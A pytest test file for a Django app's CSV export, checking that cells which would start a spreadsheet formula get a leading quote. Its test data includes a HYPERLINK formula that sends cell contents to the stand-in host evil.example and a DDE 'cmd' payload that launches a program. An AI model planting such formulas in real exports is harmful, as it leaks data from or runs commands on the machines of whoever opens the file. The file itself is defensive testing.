"""CSV exports are spreadsheet-safe: text cells that would start a formula get a leading quote, unless an analyst who
reads the file with pandas asks for the cells as stored (?spreadsheet_safe=0, export_study --no-spreadsheet-safe)."""

import csv
import io

import pandas as pd
import pytest
from django.core.management import call_command
from django.urls import reverse
from rest_framework.test import APIClient

from drawbench.results.renderers import CSVRenderer, spreadsheet_safe_cell
from drawbench.studies.models import new_token
from drawbench.studies.services.display import new_name
from tests.factories import PromptFactory

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def formula_study(known_study):
    """The known study with its first prompt's text replaced by a formula (prompts and model names are outside text)."""
    prompt = known_study.study.comparisons.order_by("prompt__position").first().prompt
    prompt.text = FORMULAS[0]
    prompt.save(update_fields=["text"])
    known_study.model_a.name = "@imagen"
    known_study.model_a.save(update_fields=["name"])
    return known_study


@pytest.fixture
def staff_api(staff_user):
    client = APIClient()
    client.force_authenticate(staff_user)
    return client


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8"))) for cell in row]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_cell_that_would_start_a_formula_gets_a_leading_quote(text):
    assert spreadsheet_safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["A red cube", "1+1", "a=b", "", "'already quoted", -0.25, -3, None, True])
def test_other_cells_and_numbers_are_written_as_given(value):
    assert spreadsheet_safe_cell(value) == value


@pytest.mark.parametrize("mint", [new_token, new_name])
def test_ids_the_app_mints_are_never_changed_by_the_spreadsheet_safe_export(mint):
    """A rater's id is random URL-safe text. One that started with "-" (1 in 64 with plain token_urlsafe) would be
    written with a leading quote and no longer join with the API's or the platform's copy. 4,000 draws: a minter that
    let "-" or "_" through would pass with probability (31/32)^4000, under 1e-55."""
    tokens = [mint() for _ in range(4_000)]
    assert all(spreadsheet_safe_cell(token) == token for token in tokens)
    assert all(token[0].isascii() and token[0].isalnum() for token in tokens)
    assert len(set(tokens)) == len(tokens)


def test_no_exported_cell_starts_a_formula(formula_study, staff_api):
    url = reverse("api-study-judgments", args=[formula_study.study.pk])
    content = staff_api.get(url, {"format": "csv"}).content

    cells = csv_cells(content)
    assert "'" + FORMULAS[0] in cells and "'@imagen@2" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]


def test_the_opt_out_gives_pandas_the_cells_as_stored(formula_study, staff_api):
    url = reverse("api-study-judgments", args=[formula_study.study.pk])
    content = staff_api.get(url, {"format": "csv", "spreadsheet_safe": "0"}).content

    frame = pd.read_csv(io.BytesIO(content), keep_default_na=False)
    assert FORMULAS[0] in set(frame["prompt"])
    assert "@imagen@2" in set(frame["model_a"])


def test_json_exports_are_never_altered(formula_study, staff_api):
    url = reverse("api-study-judgments", args=[formula_study.study.pk])
    body = staff_api.get(url).content.decode("utf-8")
    assert '"@imagen@2"' in body and "'@imagen" not in body


def test_export_study_is_spreadsheet_safe_unless_told_otherwise(formula_study, tmp_path):
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    call_command("export_study", formula_study.study.pk, "--output", str(safe))
    call_command("export_study", formula_study.study.pk, "--output", str(raw), "--no-spreadsheet-safe")

    assert "'@imagen@2" in csv_cells(safe.read_bytes()) and "@imagen@2" not in csv_cells(safe.read_bytes())
    assert "@imagen@2" in csv_cells(raw.read_bytes()) and "'@imagen@2" not in csv_cells(raw.read_bytes())


def test_an_error_object_rendered_as_csv_is_spreadsheet_safe_too():
    content = CSVRenderer().render({"detail": "=cmd|' /C calc'!A0"}, renderer_context={})
    assert csv_cells(content) == ["detail", "'=cmd|' /C calc'!A0"]


def test_a_prompt_that_starts_with_a_minus_is_quoted_but_a_negative_number_is_not():
    prompt = PromptFactory(text="-5 degrees outside")
    rows = [{"text": prompt.text, "score": -0.5}]
    content = CSVRenderer().render(rows, renderer_context={"header": ["text", "score"]})
    assert csv_cells(content) == ["text", "score", "'-5 degrees outside", "-0.5"]
